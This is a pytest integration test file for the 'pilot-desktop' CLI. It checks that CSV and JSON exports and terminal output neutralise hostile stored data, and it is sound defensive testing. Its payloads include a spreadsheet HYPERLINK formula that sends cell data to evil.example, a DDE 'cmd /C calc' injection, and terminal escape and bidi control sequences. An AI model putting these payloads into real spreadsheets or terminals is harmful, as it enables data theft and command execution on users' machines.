"""What the CLI writes is data for other programs: spreadsheets, JSON parsers, terminals and
pipes. A real store in tmp_path (written by the store's own batch writer, as the receiver or
an older version left it), the real `pilot-desktop` processes reading it."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from pilot_desktop.core.events import classify
from pilot_desktop.core.lifecycle import observe
from pilot_desktop.core.signature import verify
from pilot_desktop.store.batches import BatchWriter
from pilot_desktop.store.db import connect, open_store
from pilot_desktop.store.records import GapMark, IncomingEvent, Rejection
from tests.integration.serving import BIN, Server, cli_env, read_ndjson

DB = "pilot-desktop.sqlite3"
NUM = "num_01JSAFETY0000"
# Everything a terminal acts on: CSI and OSC sequences (clear, retitle, colour), BEL, CR and
# BS (rewrite the line), a C1 CSI, NEL, DEL, bidi override and isolate, NUL.
HOSTILE = "\x1b[2J\x1b]0;pwned\x07red\x1b[31mX\r\bOVER\u202eabc\x9b31m\x85\x7f\u2066x\u2069\x00end"
ALLOWED = {"\n", "\t"}
# What a terminal acts on (stated here, not taken from the code under test): C0 and C1
# controls, DEL, the bidi controls, line/paragraph separators, lone surrogates.
BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
TERMINAL_UNSAFE = {*range(0x20), *range(0x7F, 0xA0), *BIDI, 0x2028, 0x2029, *range(0xD800, 0xE000)}
# OWASP's CSV injection starts, and their full-width forms.
FORMULA_STARTS = set("=+-@\t\r\n\0＝＋－＠")


def store(data: Path, bodies: list[bytes], extra: list[Rejection | GapMark] | None = None) -> None:
    """Store `bodies` as the receiver would (the same batch writer, projections included),
    and `extra` refusals and gaps."""
    db = open_store(data)
    writer = BatchWriter(db, connect(db, durable=True))
    try:
        items: list[Any] = list(extra or [])
        for raw in bodies:
            obj = json.loads(raw)
            items.append(
                IncomingEvent(time.time(), None, [], raw, classify(obj), verify(raw, None, []), observe(obj))
            )
        results, _ = writer.write(items)
        assert all(not isinstance(r, Exception) for r in results), results
    finally:
        writer.conn.close()


def message(event: str, msg: str, content: str, **extra: Any) -> dict[str, Any]:
    data = {
        "numberId": NUM,
        "messageId": f"wamid.{msg}",
        "id": msg,
        "type": "text",
        "fromMe": event != "message.received",
        "createdAt": "2026-03-01T12:00:00.000Z",
        "from": "+5511911112222",
        "to": "+5511988887777",
        "content": content,
        **extra,
    }
    return {"event": event, "data": data}


def run(data: Path, *args: str, stdout: Any = subprocess.PIPE) -> subprocess.CompletedProcess[bytes]:
    env = cli_env()
    env.pop("PYTHONUNBUFFERED", None)  # as on a user's machine: stdout block-buffered into a pipe
    return subprocess.run(
        [str(BIN), *args, "--data-dir", str(data)],
        stdout=stdout,
        stderr=subprocess.PIPE,
        env=env,
        check=False,
    )


def text(raw: bytes) -> str:
    return raw.decode("utf-8", "surrogateescape")


def unsafe(out: str) -> list[str]:
    return sorted({c for c in out if ord(c) in TERMINAL_UNSAFE and c not in ALLOWED})


# -- CSV ---------------------------------------------------------------------------------------
def test_csv_cells_that_start_like_a_formula_are_shown_as_text(tmp_path: Path) -> None:
    data = tmp_path / "d"
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＠SUM(1)", "a;=1+1", "plain"]  # fmt: skip
    bodies = [json.dumps(message("message.received", f"m{i}", p)).encode() for i, p in enumerate(payloads)]
    bodies.append(json.dumps({"event": "=evil()", "data": {"numberId": "@x"}}).encode())
    store(data, bodies)
    r = run(data, "export", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.reader(io.StringIO(text(r.stdout), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(bodies)
    for row in body:
        for cell in row:
            start = cell.lstrip(" ")[:1]
            assert start not in FORMULA_STARTS, f"a spreadsheet would run the cell {cell!r}"
    summaries = [dict(zip(header, row, strict=True))["summary"] for row in body]
    # Neutralised with a leading ' that a program reading the file removes; nothing else changes.
    for cell, original in zip(summaries, [*payloads, None], strict=True):
        if original is not None and original.strip():
            assert " ".join(original.split()) in cell  # the summary flattens whitespace
    assert dict(zip(header, body[0], strict=True))["from"] == "'+5511911112222"
    # Every cell is quoted, so a spreadsheet splitting on ";" or tabs cannot cut one into a formula.
    for line in text(r.stdout).split("\r\n")[1:-1]:
        assert line.startswith('"') and line.endswith('"'), line


def test_export_help_says_how_cells_are_neutralised() -> None:
    r = subprocess.run([str(BIN), "export", "--help"], capture_output=True, text=True, check=False)
    assert r.returncode == 0
    flat = " ".join(r.stdout.split())
    assert "leading '" in flat and "formula" in flat and "strict JSON" in flat


# -- strict JSON -------------------------------------------------------------------------------
def _refuse(name: str) -> Any:
    raise ValueError(f"{name} is not JSON")


def test_ndjson_export_is_strict_json_whatever_a_stored_body_holds(tmp_path: Path) -> None:
    data = tmp_path / "d"
    # Bodies an older version accepted: JSON's non-standard constants and a number Python reads as inf.
    old = [b'{"event":"x.nan","data":{"v":NaN}}', b'{"event":"x.inf","data":{"v":Infinity,"w":-Infinity}}',
           b'{"event":"x.big","data":{"v":1e999,"w":-1e999,"ok":1.5}}']  # fmt: skip
    store(data, old)
    r = run(data, "export")
    assert r.returncode == 0, r.stderr
    lines = text(r.stdout).split("\n")[:-1]
    parsed = [json.loads(line, parse_constant=_refuse) for line in lines]  # as jq or JavaScript would
    assert [p["payload"]["data"] for p in parsed] == [
        {"v": "NaN"},
        {"v": "Infinity", "w": "-Infinity"},
        {"v": "Infinity", "w": "-Infinity", "ok": 1.5},
    ]


def test_the_receiver_refuses_numbers_json_cannot_carry(tmp_path: Path) -> None:
    server = Server(tmp_path / "d", ["--port", "0"], tmp_path / "logs")
    try:
        with httpx.Client(timeout=30) as client:
            for number in (b"1e999", b"-1e999", b"1" + b"0" * 400 + b".5", b"NaN", b"-Infinity"):
                r = server.post(b'{"event":"x.y","data":{"v":' + number + b"}}", client=client)
                assert r.status_code == 400, (number[:20], r.text)
                assert "JSON" in r.json()["error"]
            assert server.post(b'{"event":"x.y","data":{"v":1.5e300}}', client=client).status_code == 200
        assert [rec["payload"]["data"]["v"] for rec in server.export()] == [1.5e300]
    finally:
        assert server.stop() == 0, server.output()


# -- body encodings ----------------------------------------------------------------------------
def test_utf16_and_utf32_bodies_are_exported_as_the_text_they_carry(tmp_path: Path) -> None:
    data = tmp_path / "d"
    encodings = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
    objs = [message("message.received", f"enc{i}", f"olá ✓ {e}") for i, e in enumerate(encodings)]
    store(data, [json.dumps(o, ensure_ascii=False).encode(e) for o, e in zip(objs, encodings, strict=True)])
    r = run(data, "export", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(text(r.stdout), newline="")))
    assert [json.loads(row["payload"]) for row in rows] == objs
    assert all("\x00" not in row["payload"] for row in rows)
    assert [rec["payload"] for rec in read_ndjson(text(run(data, "export").stdout))] == objs


# -- the terminal ------------------------------------------------------------------------------
@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A store whose every text field a terminal shows carries control characters."""
    data = tmp_path / "d"
    bodies = [
        json.dumps(message("message.received", "in1", HOSTILE, **{"from": f"+55{HOSTILE}"})).encode(),
        json.dumps(message("message.sent", "out1", HOSTILE, correlationId=f"c{HOSTILE}")).encode(),
        json.dumps(message("message.failed", "out1", HOSTILE, error=HOSTILE, errorCode=HOSTILE)).encode(),
        # a lone surrogate (valid JSON): printed raw it stops the output with an encoding error
        b'{"event":"x.note","data":{"numberId":"' + NUM.encode() + b'","note":"a\\ud800b"}}',
        json.dumps(
            {
                "event": "number.connected",
                "data": {
                    "numberId": f"{NUM}\x1b[8m",
                    "phone": HOSTILE,
                    "displayName": HOSTILE,
                    "createdAt": "2026-03-01T12:00:00.000Z",
                },
            }
        ).encode(),
    ]
    now = time.time()
    refused = Rejection(
        now, 401, f"bad signature {HOSTILE}", "POST", f"/hooks/tok{HOSTILE}/{NUM}", "127.0.0.1",
        [("x-pilot-status-signature", HOSTILE)], HOSTILE.encode(), 40, route=f"{NUM}{HOSTILE}",
        number_id=f"{NUM}{HOSTILE}", delivery=True,
        diagnosis=json.dumps({"hint": HOSTILE, "verdict": HOSTILE}),
    )  # fmt: skip
    gap = GapMark(kind="not_running", started_at=now - 60, ended_at=now - 30, reason=HOSTILE)
    store(data, bodies, [refused, gap])
    return data


COMMANDS = [
    ("messages",),
    ("messages", "--json"),
    ("messages", "--number", "no-such-number"),  # the note lists the stored number ids
    ("timeline", "out1"),
    ("timeline", "out1", "--json"),
    ("timeline", "in1"),
    ("timeline", "+5511988887777"),  # the note quotes the stored contact
    ("numbers",),
    ("numbers", "--json", "--history", "5"),
    ("numbers", "--history", "5"),
    ("export",),
    ("rejections",),
    ("rejections", "--json"),
    ("rejections", "--id", "1"),
    ("gaps",),
    ("gaps", "--json"),
]


@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_stored_text_never_drives_the_terminal(hostile: Path, args: tuple[str, ...]) -> None:
    r = run(hostile, *args)
    # An unknown number is refused (exit 1), listing the stored ones: that list is what is checked.
    assert r.returncode == (1 if "no-such-number" in args else 0), text(r.stderr)
    out, err = text(r.stdout), text(r.stderr)
    assert "Traceback" not in err
    assert not unsafe(out), f"stdout carries {unsafe(out)}:\n{out[:2000]!r}"
    assert not unsafe(err), f"stderr carries {unsafe(err)}:\n{err[:2000]!r}"
    if "--json" in args or args == ("export",):
        # The data is all there: the escapes are JSON's own, the same strings to a parser.
        docs = (
            [json.loads(out)]
            if "timeline" in args or "gaps" in args or "rejections" in args
            else [json.loads(line) for line in out.split("\n") if line]
        )
        assert HOSTILE in set(strings(docs))
    elif args in (("messages",), ("timeline", "out1"), ("timeline", "in1")):
        assert "\\x1b[2J" in out  # shown, visibly escaped


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def test_csv_export_to_a_terminal_is_terminal_safe(hostile: Path) -> None:
    """`export --format csv` with stdout on a terminal (a pseudo-terminal here)."""
    import pty

    leader, follower = pty.openpty()
    try:
        r = run(hostile, "export", "--format", "csv", stdout=follower)
        os.close(follower)
        follower = -1
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the writer side is closed and everything was read
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        if follower != -1:
            os.close(follower)
        os.close(leader)
    assert r.returncode == 0, text(r.stderr)
    shown = text(b"".join(chunks)).replace("\r\n", "\n")  # the tty's own newline translation
    assert "\\x1b[2J" in shown
    assert not unsafe(shown), unsafe(shown)


# -- pipes -------------------------------------------------------------------------------------
PIPED = [
    ("export",),
    ("export", "--format", "csv"),
    ("messages",),
    ("messages", "--json"),
    ("timeline", "out1"),
    ("timeline", "out1", "--json"),
    ("numbers",),
    ("numbers", "--json"),
    ("hook-url",),
    ("--help",),
    ("export", "--help"),
    ("--version",),
]


@pytest.mark.parametrize("args", PIPED, ids=" ".join)
def test_a_reader_that_stops_early_ends_the_command_quietly(hostile: Path, args: tuple[str, ...]) -> None:
    """stdout is a pipe nobody reads any more (`| head` that has exited)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        r = run(hostile, *args, stdout=write_end)
    finally:
        os.close(write_end)
    err = text(r.stderr)
    assert r.returncode == 0, err
    for noise in ("Traceback", "Exception ignored", "Broken pipe", "Errno", "exported"):
        assert noise not in err, err


@pytest.fixture
def many(tmp_path: Path) -> Path:
    data = tmp_path / "many"
    store(data, [json.dumps(message("message.received", f"m{i}", "x" * 300)).encode() for i in range(3000)])
    return data


def test_export_into_head_exits_quietly(many: Path) -> None:
    env = cli_env()
    env.pop("PYTHONUNBUFFERED", None)
    for fmt in ("ndjson", "csv"):
        script = (
            f'"{BIN}" export --format {fmt} --data-dir "{many}" | head -n 2; echo "status=${{PIPESTATUS[0]}}"'
        )
        r = subprocess.run(["bash", "-c", script], capture_output=True, text=True, env=env, check=False)
        assert r.stdout.count("\n") == 3 and r.stdout.endswith("status=0\n"), (r.stdout[-300:], r.stderr)
        assert r.stderr == ""


# -- a read-only data folder -------------------------------------------------------------------
def as_reader(*args: str) -> subprocess.CompletedProcess[str]:
    """Run `pilot-desktop ARGS` as a user for whom the folder is read-only: permission bits
    apply to root too once it lacks the capabilities that override them."""
    cmd = [str(BIN), *args]
    if os.geteuid() == 0:
        cmd = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner", *cmd]
    return subprocess.run(cmd, capture_output=True, text=True, env=cli_env(), check=False)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


@contextmanager
def read_only(folder: Path) -> Iterator[None]:
    modes = {p: p.stat().st_mode & 0o777 for p in [folder, *folder.iterdir()]}
    for p in modes:
        p.chmod(0o500 if p.is_dir() else 0o400)
    try:
        yield
    finally:
        for p, mode in modes.items():
            p.chmod(mode)


def events_in(data: Path) -> list[int]:
    conn = sqlite3.connect(data / DB)
    try:
        return [row[0] for row in conn.execute("SELECT id FROM events ORDER BY id")]
    finally:
        conn.close()


def with_wal(data: Path, copy: Path, *, shm: bool) -> None:
    """`copy`: the folder as a crash (or a copy taken while serve ran) leaves it: the latest
    commits still in the -wal beside their -shm index (or without it)."""
    conn = sqlite3.connect(data / DB, isolation_level=None)
    try:
        conn.execute("PRAGMA wal_autocheckpoint = 0")
        conn.execute(
            "DELETE FROM events WHERE id > 2"
        )  # projections may refer to them: only events are compared
        shutil.copytree(data, copy)
    finally:
        conn.close()
    assert (copy / f"{DB}-wal").stat().st_size > 0
    if not shm:
        (copy / f"{DB}-shm").unlink()


def test_reading_commands_work_in_a_read_only_data_folder(hostile: Path, tmp_path: Path) -> None:
    clean, live = hostile, tmp_path / "live"
    assert not (clean / f"{DB}-wal").exists() and not (clean / f"{DB}-shm").exists()
    with_wal(clean, live, shm=True)
    for data in (clean, live):
        expected = events_in(data)
        before = snapshot(data)
        with read_only(data):
            probe = as_reader("export", "--data-dir", str(tmp_path / "nowhere"))
            assert probe.returncode == 1  # the reader really is someone else (no folder there)
            r = as_reader("export", "--data-dir", str(data))
            assert r.returncode == 0, r.stderr
            assert [rec["id"] for rec in read_ndjson(r.stdout)] == expected
            for args in (("messages",), ("timeline", "in1"), ("numbers",), ("export", "--format", "csv")):
                r = as_reader(*args, "--data-dir", str(data))
                assert r.returncode == 0, (args, r.stderr)
        assert snapshot(data) == before, "reading changed the folder"


def test_a_wal_that_cannot_be_read_without_write_access_is_said_not_skipped(
    hostile: Path, tmp_path: Path
) -> None:
    data = tmp_path / "wal-only"
    with_wal(hostile, data, shm=False)
    before = snapshot(data)
    with read_only(data):
        r = as_reader("export", "--data-dir", str(data))
    assert r.returncode == 1 and r.stdout == ""
    assert "-wal" in r.stderr and "Copy the folder" in r.stderr and "Traceback" not in r.stderr
    assert snapshot(data) == before


# -- remote data ---------------------------------------------------------------------------------
ARGV_HOSTILE = HOSTILE.replace("\x00", "")  # argv cannot carry NUL


def test_remote_names_never_drive_the_terminal(tmp_path: Path) -> None:
    """A webhook name and an account label as the platform gives them back."""
    from tests.integration.sandbox_thread import running_sandbox
    from tests.integration.test_cli_webhooks import pd

    data = tmp_path / "d"
    with running_sandbox() as platform:
        sb = platform.sandbox
        added = pd(
            data, "accounts", "add", "--base-url", sb.base_url, "--label", ARGV_HOSTILE, stdin=sb.tenant_key
        )
        number = sb.numbers[0].id
        create = ("webhooks", "create", "--number", number, "--all-events", "--name", ARGV_HOSTILE,
                  "--url", "https://example.com/hook")  # fmt: skip
        results = [added, pd(data, *create)]
        listings = [("webhooks", "list"), ("webhooks", "list", "--json"), ("accounts", "list")]
        results += [pd(data, *args) for args in [*listings, ("accounts", "list", "--json")]]
    for r in results:
        assert r.returncode == 0, r.stderr
        assert not unsafe(r.stdout) and not unsafe(r.stderr), (r.args, unsafe(r.stdout + r.stderr))
    listed = json.loads(results[3].stdout)
    assert [h["name"] for h in listed] == [ARGV_HOSTILE]  # the data itself is intact
    assert "\\x1b[2J" in results[2].stdout
